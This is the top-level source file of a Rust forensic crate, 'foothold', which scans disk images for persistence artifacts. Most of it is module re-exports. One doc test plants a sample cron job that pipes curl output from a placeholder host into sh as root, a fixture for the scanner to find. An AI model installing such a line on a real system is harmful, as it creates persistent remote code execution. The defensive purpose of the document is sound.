//! foothold: read acquired disk images offline and pull out persistence artifacts.
//!
//! This crate is the facade: [`Evidence::open`] an image (raw, split raw, or a host
//! directory), look at its [`Volume`]s, open a volume's [`FileSystem`], list and read files.
//! The artifact scans (scheduled tasks, services, cron, event logs) build on this.
//!
//! # Getting started
//! ```no_run
//! let ev = foothold::Evidence::open("disk.img")?;
//! for vol in ev.volumes() {
//!     println!("{:?} {} at {:#x}", vol.number, vol.filesystem, vol.offset);
//! }
//! let (vol, fs) = ev.find("/Windows/System32/config/SYSTEM")?;
//! let hive = fs.read_all(&fs.lookup("/Windows/System32/config/SYSTEM")?, None, 1 << 30)?;
//! # let _ = (vol, hive);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```
//!
//! # Scanning
//! [`Evidence::scan`] finds every persistence artifact of the families asked for and returns
//! a [`Report`] of typed records, each with its provenance ([`Source`]) and a one-line
//! [`Summary`]. Here on a folder laid out like a Linux root (a host directory is evidence too):
//! ```
//! let root = std::env::temp_dir().join(format!("foothold-doc-{}", std::process::id()));
//! std::fs::create_dir_all(root.join("etc/cron.d"))?;
//! std::fs::create_dir_all(root.join("var/log"))?;
//! std::fs::write(root.join("etc/cron.d/updater"), "*/5 * * * * root curl -s http://x.invalid | sh\n")?;
//! let report = foothold::Evidence::open(&root)?.scan(foothold::ScanSet::all());
//! let job = &report.cron_jobs[0];
//! assert_eq!((job.job.user.as_deref(), job.source.path.as_str(), job.source.line), (Some("root"), "/etc/cron.d/updater", Some(1)));
//! let row = report.records().next().unwrap().summary();
//! assert_eq!((row.label.as_str(), row.schedule.as_str()), ("system_crontab", "*/5 * * * *"));
//! assert!(report.errors.is_empty());
//! # std::fs::remove_dir_all(&root)?;
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```
#![forbid(unsafe_code)]
// Text from evidence is sliced only where a character ends (`get`, or after an ASCII check).
#![deny(clippy::string_slice)]

mod access;
mod activity;
mod error;
mod evidence;
mod family;
mod findings;
mod listing;
mod loose;
mod scan;
mod summary;
mod timeline;
mod triage;

pub use access::{Info, ListOutcome, Located, VolumeSnapshot};
pub use activity::Who;
pub use error::{Error, Result};
pub use evidence::{Evidence, Os, OsFamily};
pub use family::{persistence_artifacts, Family, ScanSet};
pub use findings::remediate;
pub use findings::{
    answers, finding_schema, judge, judge_across, monitoring_rules, ps_quote, remediation,
    remediation_markdown, remediation_plan, remediation_powershell, remediation_shell,
    remediation_steps, report_html, report_markdown, rule_ids, sh_quote, sigma_literal,
    step_schema, Answer, Examined, Finding, IncidentReport, MonitorRule, Reason, Severity, Step,
    Subject,
};
pub use foothold_binary::{
    hashes, BinaryInfo, CatalogMember, CatalogSignature, ChainLink, ElfInfo, FileType, Hashes,
    PeInfo, ScriptInfo, Signature, VersionInfo,
};
pub use foothold_core::{Account, AccountKind, AccountRef, Event, NoDetail};
pub use foothold_core::{CommandFlag, Frequency, Invocation, RunTarget, TargetKind};
pub use foothold_evidence::allow_references_anywhere;
pub use foothold_evidence::{Container, Digest, ReadAt, Verification};
pub use foothold_fs::archive::sniff as archive_kind;
pub use foothold_fs::ArchiveKind;
pub use foothold_fs::{
    DataStream, Entry, EntryFlag, EntryKind, Error as FsError, FileSystem, Listing, Problem,
    StreamInfo, Timestamp, Timestamps,
};
pub use foothold_linux::{
    parse_crontab, CronFlag, CronJob, CronKind, CrontabFormat, ExecCommand, ExecPrefix,
    LinuxService, ServiceFlag, ServiceKind, UnitFileState, UnitScope,
};
pub use foothold_sigma as sigma;
pub use foothold_volume::{
    FsType, LogicalVolume, LvReader, Scheme, Segment, Snapshot, SnapshotReader, Volume,
};
pub use foothold_windows::{
    build_sessions, parse_evtx, parse_job, parse_sam, parse_services, parse_task_cache,
    parse_task_xml, replay_logs, ActionKind, CalendarKind, CreatedBy, CreationEvidence, EvtxScan,
    LogonSession, PersistenceEvent, RegistryHive, Replay, ScheduledTask, Service, SessionRef,
    TaskAction, TaskCacheEntry, TaskFlag, TaskSource, TaskTrigger, TriggerKind, WindowsDetail,
};
pub use listing::{list_record_schema, walk, ListRecord, WalkError};
pub use loose::{place_loose_file, LooseKind, Placed};
pub use scan::{
    scan_log_file, scan_log_files, scan_record_schema, stream_log_file, AccountRecord, Binary,
    BinaryStatus, CronJobRecord, ErrorRecord, EventRecord, EventRef, HostRecord, KeepEvent,
    LinuxServiceRecord, Record, Report, RunCommand, ScheduledTaskRecord, ServiceRecord,
    SessionRecord, SnapshotRef, Source, TimeSource,
};
pub use summary::{summary_schema, Summary};
pub use timeline::{timeline_schema, TimelineEntry};
pub use triage::Layout;
